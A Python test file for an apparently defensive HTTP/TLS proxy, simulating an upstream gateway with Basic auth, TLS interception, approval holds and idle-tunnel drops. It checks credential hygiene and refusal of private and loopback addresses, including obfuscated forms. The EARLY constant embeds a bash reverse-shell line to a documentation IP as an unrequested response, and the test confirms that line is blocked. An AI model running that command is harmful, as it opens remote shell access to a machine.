#!/usr/bin/env python3
"""Cases of gateway_test: a proxy behind ours, of the kind that NanoClaw has.

It wants Basic credentials, looks into every tunnel with a CA of its own, may
hold a request for an approval, and drops tunnels in which nobody speaks.

usage: gateway_cases.py CASE PROXY
       gateway_cases.py prepare
       gateway_cases.py serve PORT-FILE	the gateway itself; never ends

$HOLD: seconds an approval takes, 1; a person has 180 with NanoClaw's gateway.
"""
import base64
import json
import os
import socket
import ssl
import sys
import threading
import time

import tlscerts
from wire import (ESTABLISHED, WAIT, Conn, connect, equal, events, fake_key,
                  findings, run, wait, wait_event, wait_finding)

TOKEN = "aoc_" + "0123456789abcdef" * 4
GOOD = base64.b64encode(b"x:" + TOKEN.encode()).decode()
ASK = (b"HTTP/1.1 407 Proxy Authentication Required\r\n"
       b"Proxy-Authenticate: Basic realm=\"OneCLI Gateway\"\r\n"
       b"Content-Length: 12\r\n\r\nno token yet")
NO = b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 9\r\n\r\nno route\n"
EARLY = (b"HTTP/1.1 200 OK\r\nContent-Length: 44\r\n\r\n"
         b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1 #\n")
LATER = b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nlater"
IDLE = 2		# seconds a tunnel may be silent
HOLD = float(os.environ.get("HOLD", "1"))


def field(head, name):
    for line in head.split(b"\r\n")[1:]:
        if line.lower().startswith(name.lower() + b":"):
            return line.split(b":", 1)[1].strip()
    return None


class Gateway:
    def __init__(self):
        self.ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.ctx.set_alpn_protocols(["http/1.1"])
        self.ctx.load_cert_chain("mitm.pem", "mitm.key")
        self.log = open("gateway.log", "w")
        self.lock = threading.Lock()
        self.tunnels = 0

    def told(self, **what):
        with self.lock:
            self.log.write(json.dumps(what) + "\n")
            self.log.flush()

    def serve(self, path):
        s = socket.socket()
        s.bind(("127.0.0.1", 0))
        s.listen(64)
        with open(path + ".new", "w") as f:
            f.write("%d" % s.getsockname()[1])
        os.rename(path + ".new", path)
        while True:
            c, _ = s.accept()
            threading.Thread(target=self.one, args=(Conn(c),),
                             daemon=True).start()

    def one(self, c):
        try:
            while self.request(c):
                pass
        except (EOFError, OSError):
            pass
        c.close()

    def request(self, c):
        head, body = c.message()
        line = head.split(b"\r\n")[0].decode()
        cred = field(head, b"proxy-authorization")
        self.told(line=line, credential=(cred or b"").decode(),
                  authorization=(field(head, b"authorization") or
                                 b"").decode(), tls=False)
        if cred != b"Basic " + GOOD.encode():
            c.send(ASK)
            return True
        if line.startswith("CONNECT refused."):
            c.send(NO)
            return True
        if not line.startswith("CONNECT "):
            c.send(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n"
                   % len(body) + body)
            return True
        if line.startswith("CONNECT early.") or \
                line.startswith("CONNECT again."):
            self.tunnels += 1
            c.send(b"HTTP/1.1 200 OK\r\n\r\n" +
                   (EARLY if " early." in line and self.tunnels == 1
                    else b""))
            c.message()
            if " early." in line and self.tunnels == 1:
                return False
            c.send(LATER)
            if self.tunnels == 1:
                c.message()         # and hangs up: it may be asked again
                return False
            return c.message() != ()
        if line.startswith("CONNECT slow."):
            time.sleep(HOLD)        # somebody is asked
        c.send(b"HTTP/1.1 200 OK\r\n\r\n")
        c.s.settimeout(IDLE)
        if c.s.recv(1, socket.MSG_PEEK) != b"\x16":
            return False
        c.s.settimeout(30)
        c.s = self.ctx.wrap_socket(c.s, server_side=True)
        while True:
            head, body = c.message()
            self.told(line=head.split(b"\r\n")[0].decode(), credential=(
                field(head, b"proxy-authorization") or b"").decode(),
                authorization="", tls=True)
            if b"/hold" in head.split(b"\r\n")[0]:
                time.sleep(HOLD)
            c.send(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n"
                   % len(body) + body)


def told():
    with open("gateway.log") as f:
        return [json.loads(x) for x in f.read().splitlines()]


def connect_head(host, cred):
    head = "CONNECT %s HTTP/1.1\r\nHost: %s\r\n" % (host, host)
    if cred:
        head += "Proxy-Authorization: Basic %s\r\n" % cred
    return (head + "\r\n").encode()


def secure(proxy, host, cred=GOOD, ca="home/state/ca.pem"):
    c = connect(proxy)
    c.s.settimeout(HOLD + WAIT)
    c.send(connect_head(host, cred))
    equal(c.until(b"\r\n\r\n"), ESTABLISHED)
    ctx = ssl.create_default_context(cafile=ca)
    c.s = ctx.wrap_socket(c.s, server_hostname=host.split(":")[0])
    return c


def post(body, target=b"/", extra=b""):
    return (b"POST %s HTTP/1.1\r\nHost: api.example\r\nContent-Length: %d\r\n"
            % (target, len(body)) + extra + b"\r\n" + body)


def clean():
    """The credential is in no file of ours, whatever form it has."""
    for top, _, names in os.walk("home"):
        for name in names:
            path = os.path.join(top, name)
            if not os.path.isfile(path):
                continue
            with open(path, "rb") as f:
                data = f.read()
            for needle in (TOKEN, TOKEN[4:], GOOD, GOOD[8:40]):
                if needle.encode() in data:
                    raise AssertionError("%s in %s" % (needle, name))
    with open("guardiand.log", "rb") as f:
        data = f.read()
    for needle in (TOKEN, TOKEN[4:], GOOD):
        if needle.encode() in data:
            raise AssertionError("%s in guardiand.log" % needle)


def chain(proxy):
    """Inspected through the gateway, which gets the client's credential."""
    key = fake_key().encode()
    c = secure(proxy, "api.example:443")
    for n in range(2):
        c.send(post(key))
        equal(c.message()[1], key)
    c.close()
    wait_finding(dest="api.example:443", protocol="https",
                 pattern="ai_api_key")
    got = told()
    equal([(x["line"], x["credential"]) for x in got], [
        ("CONNECT api.example:443 HTTP/1.1", "Basic " + GOOD),
        ("POST / HTTP/1.1", ""), ("POST / HTTP/1.1", "")])
    clean()


def plain(proxy):
    """Plain HTTP: the gateway is the next proxy."""
    key = fake_key().encode()
    c = connect(proxy)
    for n in range(2):
        c.send(post(key, b"http://plain.example/a",
                    b"Proxy-Authorization: Basic %s\r\n" % GOOD.encode()))
        equal(c.message()[1], key)
    c.close()
    wait_finding(dest="plain.example:80", protocol="http",
                 pattern="ai_api_key")
    equal([(x["line"], x["credential"]) for x in told()], [
        ("POST http://plain.example/a HTTP/1.1", "Basic " + GOOD)] * 2)
    clean()


def challenge(proxy):
    """407 with its fields reaches the client, for all three kinds."""
    for data in (connect_head("api.example:443", None),
                 connect_head("api.example:443", "d3Jvbmc6b25l"),
                 post(b"", b"http://plain.example/"),
                 post(b"abc", b"https://api.example/")):
        c = connect(proxy)
        c.send(data)
        head, body = c.message()
        equal(head[:12], b"HTTP/1.1 407")
        equal(b'Proxy-Authenticate: Basic realm="OneCLI Gateway"' in head,
              True, head)
        equal(body, b"no token yet")
        c.close()


def refused(proxy):
    """What the gateway says instead of a tunnel is what the client reads."""
    c = connect(proxy)
    c.send(connect_head("refused.example:443", GOOD))
    head, body = c.message()
    equal((head[:12], body), (b"HTTP/1.1 502", b"no route\n"))
    wait_event(event="upstream_failed", dest="refused.example:443",
               reason="gateway_refused")
    # a literal address is judged here, whoever would connect to it
    c = connect(proxy)
    c.send(connect_head("192.168.1.1:443", GOOD))
    equal(c.message()[0][:12], b"HTTP/1.1 403")
    wait_event(event="destination_refused", reason="private")
    # also one that only some take for an address, and the name of loopback
    for n, host in enumerate(("127.1", "2130706433", "0x7f000001", "0177.1",
                              "localhost", "a.LocalHost")):
        c = connect(proxy)
        c.send(post(b"", b"http://%s:%d/" % (host.encode(), 1 + n)))
        equal((host, c.message()[0][:12]), (host, b"HTTP/1.1 403"))
    equal([x["line"] for x in told()],
          ["CONNECT refused.example:443 HTTP/1.1"])
    wait("all on record", lambda: len(events(
        event="destination_refused", reason="loopback")) == 6)


def held(proxy):
    """An approval takes its time: for the tunnel and for the request."""
    begin = time.monotonic()
    c = secure(proxy, "slow.example:443")
    tunnel = time.monotonic()
    c.send(post(b"abc", b"/hold"))
    equal(c.message()[1], b"abc")
    c.close()
    print("held: tunnel %.1f s, request %.1f s"
          % (tunnel - begin, time.monotonic() - tunnel))
    equal(tunnel - begin >= HOLD and time.monotonic() - tunnel >= HOLD, True)
    equal(events(event="upstream_failed"), [])


def silent(proxy):
    """A tunnel in which nobody speaks is dropped: so is the client's."""
    c = connect(proxy)
    c.send(connect_head("api.example:443", GOOD))
    equal(c.until(b"\r\n\r\n"), ESTABLISHED)
    equal(c.rest(), b"")
    c = secure(proxy, "api.example:443")    # and the next one works
    c.send(post(b"abc"))
    equal(c.message()[1], b"abc")


def inner(host):
    return b"GET / HTTP/1.1\r\nHost: %s\r\n\r\n" % host


def early(proxy):
    """What the origin says with the gateway's yes, before it was asked, is
    no answer to what the client sent with its CONNECT."""
    c = connect(proxy)
    c.send(connect_head("early.example:80", GOOD) + inner(b"early.example"))
    equal(c.until(b"\r\n\r\n"), ESTABLISHED)
    equal(c.message()[1], b"later")
    equal(EARLY in c.seen, False)
    wait_event(event="protocol_error", reason="unasked")
    c.close()


def again(proxy):
    """Plain HTTP in a tunnel: the same way again when its origin ends."""
    c = connect(proxy)
    c.send(connect_head("again.example:80", GOOD))
    equal(c.until(b"\r\n\r\n"), ESTABLISHED)
    for n in range(2):
        c.send(inner(b"again.example"))
        equal(c.message()[1], b"later")
    equal([(x["line"], x["credential"]) for x in told()],
          [("CONNECT again.example:80 HTTP/1.1", "Basic " + GOOD)] * 2)
    c.close()


def through(proxy):
    """Not inspected here, the client sees the gateway's certificate."""
    c = secure(proxy, "other.example:443", ca="gateway-ca.pem")
    c.send(post(b"abc"))
    equal(c.message()[1], b"abc")
    c.close()
    wait_event(event="tunnel_opaque", dest="other.example:443", reason="tls")
    equal(findings(), [])


def one_hop(proxy):
    """Its CA counts on that hop; pooled connections stay a client's own."""
    a = secure(proxy, "api.example:443")
    a.send(post(b"abc"))
    equal(a.message()[1], b"abc")
    a.close()
    n = len([x for x in told() if x["line"].startswith("CONNECT")])
    b = secure(proxy, "api.example:443")
    b.send(b"GET / HTTP/1.1\r\nHost: api.example\r\n\r\n")
    equal(b.message()[0][:15], b"HTTP/1.1 200 OK")
    b.close()
    equal(len([x for x in told() if x["line"].startswith("CONNECT")]), n)
    # another credential: another connection, and the gateway judges it
    c = connect(proxy)
    c.send(connect_head("api.example:443", "d3Jvbmc6b25l"))
    equal(c.message()[0][:12], b"HTTP/1.1 407")


if sys.argv[1] == "prepare":
    ca = tlscerts.Authority("gateway-ca")
    ca.leaf("mitm", "DNS:api.example,DNS:slow.example,DNS:other.example")
    tlscerts.Authority("root")
elif sys.argv[1] == "serve":
    Gateway().serve(sys.argv[2])
else:
    run({f.__name__: f for f in (chain, plain, challenge, refused, held,
                                 silent, early, again, through,
                                 one_hop)}, sys.argv)
